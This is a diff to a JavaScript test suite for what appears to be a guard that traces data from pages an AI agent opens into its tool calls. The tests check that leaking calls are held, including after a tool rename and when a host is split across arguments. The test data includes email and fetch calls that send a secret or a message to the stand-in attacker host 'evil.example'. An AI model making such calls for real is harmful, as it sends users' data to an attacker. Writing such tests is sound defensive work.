@@ -67,6 +67,19 @@ describe('arguments that try to slip through', () => {
     assert.deepEqual(held(`The token is ${secret}`, 'fetch', { url }), ['url carries']);
   });
 
+  test('are held in a tool that was renamed during the session', () => {
+    const renamed = { tools: [{ type: 'function', function: { name: 'tool_b', parameters: {} } }] };
+    for (const name of ['tool_b', 'notes', 'mailer-v2']) {
+      const input = inputOf(page, [{ name, arguments: '{"to":"eve@evil.example"}' }]);
+      const flows = traceCalls({ ...input, body: { ...input.body, ...renamed } });
+      assert.deepEqual(
+        flows.map(({ kind, source }) => [kind, source.tool]),
+        [['email', 'open_page']],
+        name,
+      );
+    }
+  });
+
   test('are held for the host if a value is split over arguments', () => {
     assert.deepEqual(held(page, 'send_email', { user: 'eve', domain: 'evil.example' }), ['person', 'host']);
     assert.deepEqual(
